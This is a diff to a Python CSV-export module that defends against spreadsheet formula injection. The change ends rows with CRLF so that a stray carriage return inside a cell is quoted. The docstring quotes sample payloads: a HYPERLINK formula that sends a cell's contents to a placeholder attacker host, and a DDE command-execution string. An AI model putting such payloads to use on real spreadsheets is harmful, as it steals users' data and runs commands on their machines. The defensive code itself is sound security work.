@@ -4,7 +4,7 @@ IDs, titles and metadata come from users' files and from the service, so a cell 
 `=HYPERLINK("http://evil.example?"&A1)`, `+cmd|' /C calc'!A0` or `@SUM(1+1)` would run when the
 download is opened in Excel, LibreOffice or Google Sheets. As OWASP recommends, every text cell
 that starts with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'`, and the csv
-module quotes every cell that needs it (separators, quotes, line breaks). Numbers stay numbers.
+module quotes every cell that needs it (separators, quotes, CR and LF). Numbers stay numbers.
 Every CSV download of the console goes through `frame_to_csv` or `writer_row`.
 """
 
@@ -40,10 +40,16 @@ def writer_row(row: Iterable[Any]) -> list[Any]:
     return [neutralise(v) for v in row]
 
 
+def new_writer(out: io.StringIO) -> Any:
+    """A csv.writer ending rows with CRLF (RFC 4180), so a carriage return inside a cell is
+    quoted too: with "\n" alone the csv module leaves a lone CR bare and it splits the row."""
+    return csv.writer(out, lineterminator="\r\n")
+
+
 def frame_to_csv(frame: pd.DataFrame) -> bytes:
     """A table as UTF-8 CSV for a download button: header and text cells neutralised."""
     out = io.StringIO()
-    writer = csv.writer(out, lineterminator="\n")
+    writer = new_writer(out)
     writer.writerow(writer_row(str(c) for c in frame.columns))
     for row in frame.itertuples(index=False, name=None):
         writer.writerow(writer_row("" if _missing(v) else v for v in row))
